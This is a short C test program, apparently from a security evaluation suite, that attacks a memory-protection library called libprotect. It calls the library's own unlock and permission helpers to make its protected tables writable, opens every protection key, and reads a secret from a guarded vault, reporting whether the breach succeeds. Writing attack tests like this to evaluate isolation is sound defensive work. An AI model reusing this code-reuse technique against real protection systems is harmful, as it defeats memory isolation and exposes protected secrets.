/* Code reuse into libprotect's update helpers, which make its tables
 * writable for an update (an mprotect through the trusted page):
 *   (none)  gate_table_unlock, then the application's rights in the gate
 *           table set to every key open, then pku_write_checked (which lets
 *           through any rights the table says the application has) asked
 *           for them;
 *   sealed  sealed_open, then the vault's key in libprotect's sealed domain
 *           registry set to 0 (a write that must fault). */
#define _GNU_SOURCE
#include "attack.h"
#include "libprotect_symbols.h"

#include <stdint.h>

#define GT_APP_PKRU (16 << 7) /* gate_layout.h: MAX_DOMAINS << DG_SHIFT */

int main(int argc, char **argv)
{
    vault_open();
    if (argc > 1 && !strcmp(argv[1], "sealed")) {
        void (*open)(void) = libprotect_symbol("sealed_open");
        volatile uint8_t *registry = libprotect_symbol("protect_registry");
        if (!open || !registry)
            blocked("libprotect's helpers not found");
        open();
        registry[0] = registry[0]; /* a write: faults unless the pages were made writable */
        breached("libprotect's sealed state made writable by the application");
    }
    void (*unlock)(void) = libprotect_symbol("gate_table_unlock");
    void (*write_checked)(uint32_t) = libprotect_symbol("pku_write_checked");
    uint8_t *table = libprotect_symbol("protect_gate_page");
    if (!unlock || !write_checked || !table)
        blocked("libprotect's helpers not found");
    unlock();
    *(volatile uint32_t *)(table + GT_APP_PKRU) = 0;
    write_checked(0);
    read_secret_at(VAULT_DATA, vault_address(VAULT_DATA)->secret);
}
